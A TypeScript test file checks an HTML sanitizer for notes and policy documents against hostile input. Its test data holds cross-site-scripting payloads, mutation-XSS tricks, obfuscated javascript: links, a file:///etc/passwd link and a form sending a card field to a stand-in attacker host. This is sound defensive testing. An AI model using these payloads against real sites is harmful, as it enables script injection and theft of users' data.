import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cleanDocument, cleanHtml } from "../../../server/remote/rich-text.ts";
import { expectLinear } from "@platter/ordering/tests/support/duration.ts";
import { words } from "@platter/ordering/tests/support/words.ts";

const CLEANERS = [
  ["a note", cleanHtml],
  ["a document", cleanDocument],
] as const;

describe.each(CLEANERS)("hostile HTML in %s (CONTENT-03)", (_what, clean) => {
  test.each([
    [`<script>alert(1)</script>`, ""],
    [`<scr<script>ipt>alert(1)</script>`, "\nipt&gt;alert(1)"],
    [`<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>`, `<a rel="noopener">x</a>`],
    [`<img src=x onerror=alert(1)>`, ""],
    [`<iframe srcdoc="<script>1</script>"></iframe>`, ""],
    [`<form action=//evil.example><input name=card><button>Pay</button></form>`, "Pay"],
    [`<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">`, ""],
    [`<link rel=stylesheet href=x><style>*{display:none}</style>`, ""],
    [`<p style="position:fixed" class=page id=getElementById onclick=x>p</p>`, "<p>p</p>"],
    [`<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>`, ""],
    [`<object data=x></object><embed src=x><video src=x></video><template><b>x</b></template>`, "<b>x</b>"],
    [`<!-- --><![CDATA[x]]><?php x ?>`, ""],
    [`<p>open <b>never closed`, "<p>open <b>never closed</b></p>"],
    [`</div></main><p>ours</p>`, "<p>ours</p>"],
    [`&lt;script&gt;alert(1)&lt;/script&gt;`, "&lt;script&gt;alert(1)&lt;/script&gt;"],
    ["<textarea>ok", ""],
    ["<!--<p>--><b>ok</b>", "<b>ok</b>"],
    ["<plaintext>ok", "ok"],
    ["<p>unclosed <a href='#x'>link", '<p>unclosed <a href="#x" rel="noopener">link</a></p>'],
    ["<p>Fish &amp; <strong>chips</strong><br>daily</p>", "<p>Fish &amp; <strong>chips</strong><br />daily</p>"],
    ["<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"],
    ["plain < and > and &", "plain &lt; and &gt; and &amp;"],
  ])("%s", (html, cleaned) => {
    expect(clean(html).trim()).toBe(cleaned.trim());
  });

  test.each([
    ...words(
      "javascript:alert(1) java&#9;script:alert(1) JaVaScRiPt:alert(1) java\tscript:alert(1)",
      "\u0001javascript:alert(1) &#106;avascript:alert(1) file:///etc/passwd data:text/html,x vbscript:x",
      "http://zebra.example //evil.example /\\evil.example \\\\evil.example /\t/evil.example",
    ),
    " javascript:alert(1)",
  ])("a link to %j leads nowhere", (href) => {
    expect(clean(`<a href="${href}" target=_top onclick=x ping=x>x</a>`)).toBe(`<a rel="noopener">x</a>`);
  });

  test.each(words("https://zebra.example/help?x=1#y mailto:help@zebra.example tel:+15550100199 /locations #refunds"))(
    "a link to %s stays",
    (href) => {
      expect(clean(`<a href="${href}">x</a>`)).toBe(`<a href="${href}" rel="noopener">x</a>`);
    },
  );
});

test("known mutation XSS leaves no live element", () => {
  for (const trick of [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<b><b/onmouseover=alert(1)>x</b>",
    "<p <script>alert(1)</script>>x</p>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://a.example" onclick=x() href="javascript:x()">x</a>',
    '<xmp><p title="</xmp><svg onload=x()>">',
    "<template><script>x()</script></template>",
    "<p title='<script>'>x</p>",
  ]) {
    const left = cleanHtml(trick).replace(/<\/?(?:p|b)>|<a href="https:\/\/a\.example" rel="noopener">|<\/a>/g, "");
    expect(left, trick).not.toMatch(/<|\son\w+\s*=\s*["']?\w+\(\)[^&]*>/);
  }
});

test("any markup is reduced to allowed elements and attributes", () => {
  const markup = "<b> </b> </a> <script> </script> <svg/onload=x> &lt;img & ' \" < > text <!-- --> <math> <style>";
  const piece = fc.constantFrom(...markup.split(" "), "<p style=x>", "<a href='https://a.example' onclick=x>");
  const allowed = /^(?:[^<>]|<\/?(?:b|p|a)>|<a href="https:\/\/a\.example" rel="noopener">|<a rel="noopener">)*$/;
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
      expect(cleanHtml(pieces.join(""))).toMatch(allowed);
    }),
    { numRuns: 500 },
  );
});

describe("a policy keeps its structure (CONTENT-01)", () => {
  test("headings below the page's own, lists, links", () => {
    const html = `<h1>Policy</h1><h2>Refunds</h2><h4>Cards</h4><h5>Late</h5><h6>Later</h6><ol><li>One<ul><li>a</li></ul></li></ol><p>Line<br />two</p>`;
    expect(cleanDocument(html)).toBe(
      `<h2>Policy</h2><h2>Refunds</h2><h4>Cards</h4><h4>Late</h4><h4>Later</h4><ol><li>One<ul><li>a</li></ul></li></ol><p>Line<br />two</p>`,
    );
  });

  test("tables keep only what makes their cells readable", () => {
    const html = `<table border="1" style="width:9999px" onclick="x"><caption>Days</caption><thead><tr><th scope="col" colspan="2" onclick="x" headers="x">Card</th></tr></thead><tbody><tr><td rowspan="2" background="//evil.example/x.png">Visa</td></tr></tbody><tfoot><tr><td>x</td></tr></tfoot></table>`;
    expect(cleanDocument(html)).toBe(
      `<table><caption>Days</caption><thead><tr><th scope="col" colspan="2">Card</th></tr></thead><tbody><tr><td rowspan="2">Visa</td></tr></tbody><tfoot><tr><td>x</td></tr></tfoot></table>`,
    );
    expect(cleanHtml("<table><tr><td>x</td></tr></table>")).toBe("x");
  });

  test("a policy is not truncated, a note is", () => {
    const long = `<p>${"x".repeat(99_000)}</p>`;
    expect(cleanDocument(long)).toBe(long);
    expect(cleanHtml(long)).toHaveLength("<p></p>".length + 20_000 - "<p>".length);
  });

  test.each(["<b>", "<table>", "<td>", "<a href=x>", "<ul><li>", "<p>", "<p ", "<", "&", "<!--", '<a href="&#9;'])(
    "100,000 characters of %s take linear time",
    (tag) => {
      const htmlOf = (times: number) => tag.repeat((times * 1_600) / tag.length);
      const html = htmlOf(64);
      expectLinear((times) => [cleanDocument(htmlOf(times)), cleanHtml(htmlOf(times))]);
      expect(cleanHtml(html).length).toBeLessThan(150_000);
    },
  );
});
